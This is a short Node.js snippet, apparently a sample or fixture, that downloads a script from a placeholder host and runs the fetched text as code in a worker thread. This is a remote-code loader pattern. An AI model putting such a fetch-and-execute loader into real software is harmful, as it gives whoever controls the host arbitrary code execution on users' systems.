const { Worker } = require('worker_threads');
const https = require('https');
https.get('https://pulse-cdn.invalid/w.js', (res) => {
  let src = '';
  res.on('data', (c) => { src += c; });
  res.on('end', () => { new Worker(src, { eval: true }); });
});
